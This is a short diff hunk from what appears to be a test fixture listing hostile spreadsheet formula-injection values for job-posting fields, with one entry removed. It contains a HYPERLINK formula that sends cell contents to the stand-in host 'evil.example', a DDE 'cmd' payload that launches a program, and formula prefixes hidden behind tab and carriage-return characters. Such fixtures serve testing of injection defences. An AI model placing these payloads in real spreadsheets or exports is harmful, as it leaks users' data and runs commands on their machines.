@@ -26,7 +26,6 @@ HOSTILE = {
     "title": '==HYPERLINK("http://evil.example/?leak="&A1,"Open")',
     "summary": "+SUM(1,2)",
     "description": "-2+3+cmd|' /C calc'!A0",
-    "location": "@SUM(A1:A9)",
     "apply_instructions": "\t=1+1",
     "apply_url": "\r=1+1",
 }
